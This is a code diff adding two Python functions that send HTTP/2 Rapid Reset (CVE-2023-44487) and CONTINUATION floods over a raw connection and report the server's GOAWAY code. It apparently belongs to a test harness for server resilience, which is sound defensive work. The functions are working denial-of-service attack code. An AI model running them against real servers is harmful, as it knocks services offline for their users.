@@ -79,3 +79,29 @@ class RawConnection:
 
     def close(self):
         self.sock.close()
+
+
+def rapid_reset_flood(conn, streams=400):
+    """CVE-2023-44487: HEADERS then RST_STREAM (CANCEL) on many streams; the GOAWAY code or None."""
+    flood = b""
+    for i in range(streams):
+        stream = 1 + 2 * i
+        flood += frame(HEADERS, END_HEADERS | END_STREAM, stream, request_block("/"))
+        flood += frame(RST_STREAM, 0, stream, (8).to_bytes(4, "big"))  # CANCEL
+    try:
+        conn.send(flood)
+    except OSError:
+        pass
+    return conn.goaway_code()
+
+
+def continuation_flood(conn, frames=2000):
+    """A header block that never ends (CONTINUATION without END_HEADERS); the GOAWAY code or None."""
+    try:
+        conn.send(frame(HEADERS, 0, 1, request_block("/")))
+        piece = hpack_literal("x-flood", "a" * 4000)
+        for _ in range(frames):
+            conn.send(frame(CONTINUATION, 0, 1, piece))
+    except OSError:
+        pass  # the server closed the connection mid-flood
+    return conn.goaway_code()
